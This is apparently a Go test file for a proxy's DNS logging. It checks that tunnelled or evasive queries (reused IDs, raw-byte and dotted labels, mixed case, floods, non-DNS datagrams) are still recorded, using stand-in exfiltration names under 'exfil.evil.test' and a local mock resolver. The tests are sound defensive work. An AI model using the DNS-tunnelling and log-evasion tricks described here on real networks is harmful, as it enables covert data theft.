package proxy

import (
	"bytes"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gwlbproxy/gwlbproxy/netstack"
)

// dnsResolver is a resolver on loopback that answers every query with
// NXDOMAIN (newDNSResolverWith: as it is told) after delay (never, when
// delay is negative), and remembers the names it was asked.
type dnsResolver struct {
	pc    *net.UDPConn
	mu    sync.Mutex
	asked []string
}

func newDNSResolver(t *testing.T, delay time.Duration) *dnsResolver {
	t.Helper()
	return newDNSResolverWith(t, delay, dnsResponse)
}

// newDNSResolverWith is newDNSResolver answering each query q with
// respond(q).
func newDNSResolverWith(t *testing.T, delay time.Duration, respond func(q []byte) []byte) *dnsResolver {
	t.Helper()
	pc, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	r := &dnsResolver{pc: pc}
	go func() {
		buf := make([]byte, 2048)
		for {
			n, from, err := pc.ReadFromUDPAddrPort(buf)
			if err != nil {
				return
			}
			q := append([]byte(nil), buf[:n]...)
			m, _ := parseDNS(q)
			r.mu.Lock()
			r.asked = append(r.asked, m.Name())
			r.mu.Unlock()
			if delay >= 0 {
				time.AfterFunc(delay, func() { pc.WriteToUDPAddrPort(respond(q), from) })
			}
		}
	}()
	return r
}

func (r *dnsResolver) addr() netip.AddrPort { return r.pc.LocalAddr().(*net.UDPAddr).AddrPort() }

func (r *dnsResolver) count() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.asked)
}

// TestDNSIDReuseRecorded plays a client that hides a query behind an
// innocent one with the same ID, sent before the first is answered: the
// resolver answers both, and each must have its record with its own name.
// Keyed by ID alone, the second query took the first's place, the first's
// answer did not match it, and the tunnelled name was never recorded.
func TestDNSIDReuseRecorded(t *testing.T) {
	res := newDNSResolver(t, 50*time.Millisecond)
	p, _, recs := udpProxy(t, "policy: {default: allow}\n", func(cfg *Config) {
		cfg.UDPIdleTimeout = 3 * time.Second
		cfg.DNSPorts = []uint16{res.addr().Port()}
	})
	const secret = "c2VjcmV0LWRhdGE.exfil.evil.test"
	c, done := startFlow(p, quicClient, res.addr(), dnsQuery(5, secret, 16), dnsQuery(5, "www.example.com", 1))
	<-c.out
	<-c.out
	<-done
	if n := res.count(); n != 2 {
		t.Fatalf("the resolver was asked %d queries, want 2", n)
	}
	got := map[string]string{}
	for _, r := range recs.records(t, 3) {
		if r.Kind == "dns" {
			got[r.QueryName+"/"+r.QueryType] = r.Result + " " + r.RCode
		}
	}
	// Recorded in lower case, as every query name is.
	if len(got) != 2 || got[strings.ToLower(secret)+"/TXT"] != "ok NXDOMAIN" || got["www.example.com/A"] != "ok NXDOMAIN" {
		t.Fatalf("dns records %v, want both queries answered, each by its own name", got)
	}
}

// TestDNSPendingFullRecorded: a flow with maxPendingDNS queries waiting
// for answers still relays the next query, and so records it at once,
// untracked, naming it; it used to be relayed without any record.
func TestDNSPendingFullRecorded(t *testing.T) {
	res := newDNSResolver(t, -1)
	p, _, recs := udpProxy(t, "policy: {default: allow}\n", func(cfg *Config) {
		cfg.UDPIdleTimeout = time.Minute
		cfg.UDPUnansweredTimeout = time.Minute
		cfg.DNSPorts = []uint16{res.addr().Port()}
	})
	c, _ := startFlow(p, quicClient, res.addr(), dnsQuery(0, "a.example.test", 1))
	// In batches that the resolver's socket buffer holds: loopback drops
	// what a full one cannot take, and a lost query is never pending.
	for id := 1; id < maxPendingDNS; id++ {
		c.inject(dnsQuery(uint16(id), "a.example.test", 1))
		if id%64 == 0 {
			for deadline := time.Now().Add(5 * time.Second); res.count() < id+1 && time.Now().Before(deadline); {
				time.Sleep(time.Millisecond)
			}
		}
	}
	const hidden = "hidden.exfil.evil.test"
	c.inject(dnsQuery(1, hidden, 1))
	deadline := time.Now().Add(5 * time.Second)
	for res.count() < maxPendingDNS+1 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	if n := res.count(); n != maxPendingDNS+1 {
		t.Fatalf("the resolver was asked %d queries, want %d", n, maxPendingDNS+1)
	}
	// The flow is still open: the only record so far is the untracked one.
	var untracked int
	for _, r := range recs.records(t, 1) {
		if r.Kind == "dns" && r.QueryName == hidden && r.Result == "untracked" && r.RCode == "" {
			untracked++
		} else {
			t.Errorf("unexpected record while the flow is open: %+v", r)
		}
	}
	if untracked != 1 {
		t.Fatalf("%d untracked records naming the query past the bound, want 1", untracked)
	}
	c.Close()
}

// TestDNSRecordsBounded plays a client that floods an allowed resolver
// with one-datagram queries: each was a record, so one client could fill
// the records queue every client's records go through. Its DNS records
// now come from a bucket of its own; the rest are relayed and answered
// all the same, counted in dns_unrecorded, and its next record says how
// many went unrecorded; another client's query is still recorded.
func TestDNSRecordsBounded(t *testing.T) {
	res := newDNSResolver(t, 0)
	p, _, recs := udpProxy(t, "policy: {default: allow}\n", func(cfg *Config) {
		cfg.UDPIdleTimeout = 10 * time.Second
		cfg.DNSPorts = []uint16{res.addr().Port()}
	})
	const n = 600
	start := time.Now()
	c, _ := startFlow(p, quicClient, res.addr(), dnsQuery(0, "q0.example.test", 1))
	for i := 1; i < n; i++ {
		if i%50 == 0 {
			time.Sleep(2 * time.Millisecond) // no more than loopback's buffers hold
		}
		c.inject(dnsQuery(uint16(i), fmt.Sprintf("q%d.example.test", i), 1))
	}
	deadline := time.Now().Add(5 * time.Second)
	countDNS := func() (recorded, summaries, told int) {
		for _, r := range recs.parse(t) {
			if r.Kind != "dns" {
				continue
			}
			recorded++
			var k int
			if _, err := fmt.Sscanf(r.Error, "%d more DNS queries from this client before this one", &k); err == nil {
				summaries++
				told += k
			}
		}
		return
	}
	for {
		recorded, _, _ := countDNS()
		if recorded+int(p.Stats().DNSUnrecorded) >= n || time.Now().After(deadline) {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if got := res.count(); got != n {
		t.Fatalf("the resolver was asked %d queries, want all %d", got, n)
	}
	recorded, _, _ := countDNS()
	unrecorded := int(p.Stats().DNSUnrecorded)
	most := dnsRecordBurst + int(time.Since(start).Seconds()*dnsRecordRate) + 1 // the bucket refills as the flood goes on
	if recorded+unrecorded != n || recorded < dnsRecordBurst || recorded > most {
		t.Fatalf("%d queries recorded and %d counted unrecorded, want all %d and %d to %d recorded", recorded, unrecorded, n, dnsRecordBurst, most)
	}
	// Another client is not affected.
	other := netip.AddrPortFrom(netip.MustParseAddr("198.18.0.6"), 40000)
	startFlow(p, other, res.addr(), dnsQuery(1, "other.example.test", 1))
	// The flooding client's bucket refills a little: its next record tells.
	time.Sleep(100 * time.Millisecond)
	c.inject(dnsQuery(9999, "next.example.test", 1))
	var fromOther, next, told int
	for deadline := time.Now().Add(3 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		fromOther, next = 0, 0
		for _, r := range recs.parse(t) {
			switch {
			case r.Kind != "dns":
			case r.ClientIP == other.Addr().String():
				fromOther++
			case r.QueryName == "next.example.test":
				next++
			}
		}
		if _, _, told = countDNS(); fromOther == 1 && next == 1 {
			break
		}
	}
	// Records made while the bucket refilled in the flood tell of the
	// queries unrecorded before them; the next one of the rest.
	if fromOther != 1 || next != 1 || told != unrecorded {
		t.Fatalf("%d records of the other client (want 1), %d of the client's next query (want 1); they tell of %d unrecorded, want %d", fromOther, next, told, unrecorded)
	}
	c.Close()
}

// TestRecordShareKey: the client a DNS flow's records are charged to is
// the one its share counts.
func TestRecordShareKey(t *testing.T) {
	for _, c := range []string{"198.18.0.5:40000", "[::ffff:198.18.0.5]:40000", "[2001:db8:1:2:3:4:5:6]:53", "[2001:db8:1:2:3:ffff:5:6]:53"} {
		f := netstack.FlowInfo{Endpoint: 0x0123456789abcdef, Client: netip.MustParseAddrPort(c), Dest: netip.MustParseAddrPort("10.0.0.2:53")}
		if got, want := recordShareKey(newRecord("udp", f)), clientShareKey(f); got != want {
			t.Errorf("client %s: record's key %+v, share's %+v", c, got, want)
		}
	}
}

// TestDNSRecordRawBytesName: a tunnel that puts raw bytes in its labels is
// recorded with the bytes it sent, written as \DDD as dig writes them; the
// record's UTF-8 turned each into a replacement character, and what was
// asked was lost.
func TestDNSRecordRawBytesName(t *testing.T) {
	res := newDNSResolver(t, 0)
	p, _, recs := udpProxy(t, "policy: {default: allow}\n", func(cfg *Config) {
		cfg.UDPIdleTimeout = 3 * time.Second
		cfg.DNSPorts = []uint16{res.addr().Port()}
	})
	name := "a\x80\xff b\\c.exfil.evil.test"
	c, done := startFlow(p, quicClient, res.addr(), dnsQuery(7, name, 16))
	<-c.out
	<-done
	var got []string
	for _, r := range recs.records(t, 2) {
		if r.Kind == "dns" {
			got = append(got, r.QueryName)
		}
	}
	const want = `a\128\255\032b\092c.exfil.evil.test`
	if len(got) != 1 || got[0] != want {
		t.Fatalf("dns records name %q, want %q", got, want)
	}
	if n := testing.AllocsPerRun(100, func() { presentName("www.example.com") }); n != 0 {
		t.Errorf("an ordinary name allocates %v times", n)
	}
}

// TestDNSRecordNameLowerCase: a query whose name mixes case, as a client
// randomising case (DNS 0x20) or hiding from exact-match searches sends
// it, is recorded in lower case, as records.md says, while the resolver is
// asked the name as the client spelled it (its answer must echo that
// spelling) and the answer is matched to the query. Only A-Z are lowered:
// a raw byte keeps its value in its \DDD (0xC1 is 'A' with the high bit).
func TestDNSRecordNameLowerCase(t *testing.T) {
	res := newDNSResolver(t, 0)
	p, _, recs := udpProxy(t, "policy: {default: allow}\n", func(cfg *Config) {
		cfg.UDPIdleTimeout = 3 * time.Second
		cfg.DNSPorts = []uint16{res.addr().Port()}
	})
	const asked = "WwW.ExAmPlE.CoM"
	c, done := startFlow(p, quicClient, res.addr(), dnsQuery(7, asked, 1), dnsQuery(8, "X\xc1y.EVIL.test", 1))
	<-c.out
	<-c.out
	<-done
	got := map[string]string{}
	for _, r := range recs.records(t, 3) {
		if r.Kind == "dns" {
			got[r.QueryName] = r.Result + " " + r.RCode
		}
	}
	want := map[string]string{"www.example.com": "ok NXDOMAIN", `x\193y.evil.test`: "ok NXDOMAIN"}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("dns records (name: result rcode) %v, want %v", got, want)
	}
	res.mu.Lock()
	defer res.mu.Unlock()
	if len(res.asked) == 0 || res.asked[0] != asked {
		t.Fatalf("the resolver was asked %q, want %q as the client spelled it", res.asked, asked)
	}
	if n := testing.AllocsPerRun(100, func() { presentName("www.example.com") }); n != 0 {
		t.Errorf("a lower-case name allocates %v times", n)
	}
}

// TestDNSDotInLabelRecorded plays a tunnel that puts its data in one label
// holding a '.' byte, \x0fc2VjcmV0.ZGF0YQ: label bytes are binary to a
// resolver, which resolves the name and forwards it towards the tunnel's
// server. The parser refused it (dnsmessage rejects a dot in a label), the
// flow went opaque, and the query had no dns record and its answer no
// match. It must be recorded, with the inner dot written \046, its answer
// matched and handed to DNSAnswer; and the flow's udp record says nothing
// of datagrams that are not DNS, for there were none.
func TestDNSDotInLabelRecorded(t *testing.T) {
	res := newDNSResolverWith(t, 0, dnsNoError)
	answers := make(chan []byte, 4)
	p, _, recs := udpProxy(t, "policy: {default: allow}\n", func(cfg *Config) {
		cfg.UDPIdleTimeout = 3 * time.Second
		cfg.DNSPorts = []uint16{res.addr().Port()}
		cfg.DNSAnswer = func(_ uint64, _ string, _ netip.Addr, msg []byte) { answers <- bytes.Clone(msg) }
	})
	q := dnsQueryLabels(9, []string{"c2VjcmV0.ZGF0YQ", "exfil", "evil", "test"}, 16, 0x0100)
	c, done := startFlow(p, quicClient, res.addr(), q)
	<-c.out
	<-done
	var got []string
	for _, r := range recs.records(t, 2) {
		switch r.Kind {
		case "dns":
			got = append(got, r.QueryName+" "+r.QueryType+" "+r.Result+" "+r.RCode)
		case "udp":
			if r.Error != "" {
				t.Errorf("udp record error %q, want none", r.Error)
			}
		}
	}
	const want = `c2vjcmv0\046zgf0yq.exfil.evil.test TXT ok NOERROR`
	if len(got) != 1 || got[0] != want {
		t.Fatalf("dns records %q, want [%q]", got, want)
	}
	select {
	case a := <-answers:
		if !bytes.Equal(a, dnsNoError(q)) {
			t.Errorf("DNSAnswer saw %q, want the answer", a)
		}
	default:
		t.Error("the answer was not handed to DNSAnswer")
	}
}

// TestDNSPortNotDNSNoted: datagrams to a DNS port that are not DNS queries
// have no dns record (there is no question to name), so the flow's udp
// record says how many there were: otherwise a tunnel that is not DNS at
// all would look, beside a lookup, like a resolver's traffic.
func TestDNSPortNotDNSNoted(t *testing.T) {
	res := newDNSResolver(t, 0)
	p, _, recs := udpProxy(t, "policy: {default: allow}\n", func(cfg *Config) {
		cfg.UDPIdleTimeout = time.Second
		cfg.DNSPorts = []uint16{res.addr().Port()}
	})
	// Its fifth and sixth bytes ("o,") are a question count, its
	// thirteenth ('D', 0x44) no label length a name may have.
	notDNS := []byte("hello, not DNS at all")
	c, done := startFlow(p, quicClient, res.addr(), dnsQuery(3, "www.example.test", 1), notDNS, notDNS)
	for range 3 {
		<-c.out
	}
	<-done
	checkNotDNSNoted(t, recs, 2, 2) // the resolver answers each, and those answer no query
}

// TestDNSClientResponseNotAQuery: a DNS response the client sends to a DNS
// port (a tunnel's, or a reflection) is no query: it has no dns record,
// which would read as a lookup of its name, and the udp record counts it
// among the datagrams that were not DNS queries (docs/records.md).
func TestDNSClientResponseNotAQuery(t *testing.T) {
	res := newDNSResolver(t, 0)
	p, _, recs := udpProxy(t, "policy: {default: allow}\n", func(cfg *Config) {
		cfg.UDPIdleTimeout = time.Second
		cfg.DNSPorts = []uint16{res.addr().Port()}
	})
	resp := dnsResponse(dnsQuery(9, "hidden.tunnel.example", 16))
	c, done := startFlow(p, quicClient, res.addr(), dnsQuery(3, "www.example.test", 1), resp)
	<-c.out
	<-done
	checkNotDNSNoted(t, recs, 1, 1)
}

// checkNotDNSNoted checks a flow's two records: one dns record, of the
// one query (www.example.test), and a udp record whose error counts
// notDNS datagrams from the client that were not DNS queries, and unasked
// from the server that answered no waiting query.
func checkNotDNSNoted(t *testing.T, recs *recordSink, notDNS, unasked int) {
	t.Helper()
	var dns []string
	udpErr := "no udp record"
	for _, r := range recs.records(t, 2) {
		switch r.Kind {
		case "dns":
			dns = append(dns, r.QueryName)
		case "udp":
			udpErr = r.Error
		}
	}
	if len(dns) != 1 || dns[0] != "www.example.test" {
		t.Errorf("dns records %q, want the one query (a response from the client is no query)", dns)
	}
	want := fmt.Sprintf("datagrams from the client that were not DNS queries: %d", notDNS)
	if unasked > 0 {
		want += fmt.Sprintf("; datagrams from the server that answered no waiting query: %d", unasked)
	}
	if udpErr != want {
		t.Errorf("udp record error %q, want %q", udpErr, want)
	}
}
